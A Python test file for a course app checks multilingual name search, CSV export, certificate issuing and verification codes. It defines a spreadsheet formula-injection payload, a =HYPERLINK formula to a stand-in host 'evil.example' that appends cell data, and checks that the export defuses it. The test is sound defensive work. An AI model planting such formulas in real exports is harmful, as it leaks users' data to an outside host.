"""Issue 15 through the pages: names found in any script, downloads that match the screen, codes typed
from paper, and a certificate refused before issuing when no font can print the name.

The app store runs on SQLite and, with TEST_DATABASE_URL set, on PostgreSQL too (a fresh schema
named in DATABASE_URL), since the name search was the place where the two databases disagreed.
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import streamlit
from sqlalchemy import create_engine, text
from starlette.applications import Starlette
from starlette.testclient import TestClient

from course import accounts, certificates, cohorts
from course.accounts import Role, User
from course.clock import utcnow
from course.csvout import BOM
from course.store.db import Store
from course.ui import resources
from course.ui.auth_routes import ROUTES
from tests.conftest import DATABASES, POSTGRES_SKIP_REASON, postgres_url
from tests.cpd.helpers import COURSE, complete_course, reflect
from tests.ui.conftest import FIXTURE_COURSE, signed_in, texts

COHORTS = "course/ui/pages/cohorts.py"
PORTFOLIO = "course/ui/pages/portfolio.py"
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture(params=DATABASES)
def any_store(request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
    """The app's own store (resources.store()) on SQLite or on a fresh PostgreSQL schema."""
    monkeypatch.setenv("COURSE_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("COURSE_CONTENT_DIR", str(FIXTURE_COURSE))
    if request.param == "sqlite":
        monkeypatch.delenv("DATABASE_URL", raising=False)
        yield resources.store()
        resources.forget(resources.store())
        return
    url = postgres_url()
    if url is None:
        pytest.skip(POSTGRES_SKIP_REASON)
    schema = f"t_{uuid.uuid4().hex}"
    admin = create_engine(url, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f'CREATE SCHEMA "{schema}"'))
    separator = "&" if "?" in url else "?"
    monkeypatch.setenv("DATABASE_URL", f"{url}{separator}options={quote(f'-csearch_path={schema}')}")
    try:
        yield resources.store()
    finally:
        resources.forget(resources.store())
        with admin.connect() as conn:
            conn.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))
        admin.dispose()


def _user(store: Store, name: str, email: str, role: Role = Role.LEARNER) -> User:
    return accounts.create_user_admin(
        store, email=email, display_name=name, password="correct horse battery", role=role, now=utcnow()
    )


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, bytes]:
    """The bytes each download button was given on the last run, by key (AppTest keeps no media)."""
    given: dict[str, bytes] = {}
    original = streamlit.download_button

    def spy(label: str, data: Any, *args: Any, **kwargs: Any) -> Any:
        given[str(kwargs.get("key") or label)] = data() if callable(data) else data
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", spy)
    return given


def _csv_rows(data: bytes) -> list[list[str]]:
    decoded = data.decode("utf-8")
    assert decoded.startswith(BOM)
    return list(csv.reader(io.StringIO(decoded.removeprefix(BOM))))


def test_an_educator_finds_her_learners_by_name_in_any_script(any_store: Store, downloads: dict[str, bytes]) -> None:
    tess = _user(any_store, "Tess", "tess@example.org", Role.EDUCATOR)
    group = cohorts.create_cohort(any_store, tess, "Group", now=utcnow())
    for name, email in [("Élodie Brûlé", "e@example.org"), ("Дмитрий Орлов", "d@example.org"), (HOSTILE, "h@x.org")]:
        cohorts.join_by_code(any_store, _user(any_store, name, email), group.invite_code, now=utcnow())
    _user(any_store, "Zoë Ó Briain", "zoe@example.org")  # not yet in the cohort
    at = signed_in(any_store, tess, COHORTS)
    assert not at.exception
    for typed, expected in [("Élodie", "Élodie Brûlé"), ("élodie", "Élodie Brûlé"), ("Дмитрий", "Дмитрий Орлов")]:
        at.text_input(key="filter-members").input(typed).run()
        assert at.dataframe[0].value["Name"].tolist() == [expected], typed
        # The CSV beside the table holds exactly the rows on screen.
        assert [row[0] for row in _csv_rows(downloads["csv-members"])[1:]] == [expected]
    # The administrator's add-a-learner search (the only page that lists accounts) folds the same way.
    admin = _user(any_store, "Ada Admin", "ada@example.org", Role.ADMIN)
    at = signed_in(any_store, admin, COHORTS, cohort=str(group.id))
    at.text_input(key="find-learner").input("ZOE O").run()
    assert any("Zoë Ó Briain" in str(o) for o in at.selectbox(key="pick-learner").options)


def test_the_learners_csv_opens_with_accents_and_no_live_formula(any_store: Store, downloads: dict[str, bytes]) -> None:
    tess = _user(any_store, "Tess", "tess@example.org", Role.EDUCATOR)
    group = cohorts.create_cohort(any_store, tess, "Group", now=utcnow())
    for name, email in [("Zoë Ó Briain", "zoe@example.org"), (HOSTILE, "h@x.org"), ("＝1+1", "fw@x.org")]:
        cohorts.join_by_code(any_store, _user(any_store, name, email), group.invite_code, now=utcnow())
    at = signed_in(any_store, tess, COHORTS)
    shown = at.dataframe[0].value
    data = downloads["csv-members"]
    assert data.startswith(b"\xef\xbb\xbf") and "Zoë Ó Briain".encode() in data and b"\r\n" in data
    rows = _csv_rows(data)
    assert rows[0] == ["Name", "Email", "Joined"]
    on_screen = shown[["Name", "Email", "Joined"]].values.tolist()
    assert [[r[0].removeprefix("'"), *r[1:]] for r in rows[1:]] == on_screen
    by_email = {r[1]: r[0] for r in rows[1:]}
    assert by_email["h@x.org"] == "'" + HOSTILE and by_email["fw@x.org"] == "'＝1+1"
    assert all(not r[0].startswith(("=", "＝")) for r in rows[1:])


def test_a_name_no_font_can_print_is_explained_before_issuing(any_store: Store) -> None:
    learner = _user(any_store, "Lee \ue000 Learner", "lee@example.org")
    complete_course(any_store, learner, utcnow())
    at = signed_in(any_store, learner, PORTFOLIO)
    assert not at.exception
    assert any("U+E000" in e for e in texts(at.error))
    assert not [b for b in at.button if b.label == "Issue my certificate"]
    assert certificates.certificate_of(any_store, learner, learner.id) is None


def test_a_chinese_name_is_issued_and_its_pdf_keeps_the_name(
    app_store: Store, downloads: dict[str, bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("COURSE_PDF_FONTS", raising=False)
    learner = _user(app_store, "王芳 (Wang Fang)", "wang@example.org")
    complete_course(app_store, learner, utcnow())
    at = signed_in(app_store, learner, PORTFOLIO)
    assert not at.error
    next(b for b in at.button if b.label == "Issue my certificate").click().run()
    from pypdf import PdfReader

    pdf = PdfReader(io.BytesIO(downloads["Download certificate (PDF)"]))
    assert len(pdf.pages) == 1 and "王芳 (Wang Fang)" in pdf.pages[0].extract_text()


def test_an_evidence_pack_is_not_offered_once_the_choice_on_screen_changed(app_store: Store) -> None:
    learner = _user(app_store, "Lee", "lee@example.org")
    first = reflect(app_store, learner, utcnow(), title="First")
    second = reflect(app_store, learner, utcnow(), title="Second")
    at = signed_in(app_store, learner, PORTFOLIO)
    at.multiselect(key="pack-reflections").select(first).run()
    next(b for b in at.button if b.label == "Prepare evidence pack").click().run()
    assert "Download evidence pack (ZIP)" in [b.label for b in at.download_button]
    at.multiselect(key="pack-reflections").select(second).run()
    assert "Download evidence pack (ZIP)" not in [b.label for b in at.download_button]
    assert any("prepare the evidence pack again" in c for c in texts(at.caption))


def test_codes_typed_from_paper_verify_and_join(any_store: Store) -> None:
    learner = _user(any_store, "Lee", "lee@example.org")
    complete_course(any_store, learner, utcnow())
    cert = certificates.issue(any_store, learner, COURSE, now=utcnow())
    client = TestClient(Starlette(routes=ROUTES))
    typed = cert.display_code.lower().replace("0", "o").replace("1", "l").replace("-", " ")
    assert client.get(f"/verify/{quote(typed)}").status_code == 200
    tess = _user(any_store, "Tess", "tess@example.org", Role.EDUCATOR)
    group = cohorts.create_cohort(any_store, tess, "Group", now=utcnow())
    at = signed_in(any_store, learner, "course/ui/pages/home.py")
    at.text_input[0].input(" " + group.invite_code.lower().replace("-", " ").replace("0", "o") + " ")
    at.button[0].click().run()
    assert not at.error and [c.id for c in cohorts.learner_cohorts(any_store, learner)] == [group.id]
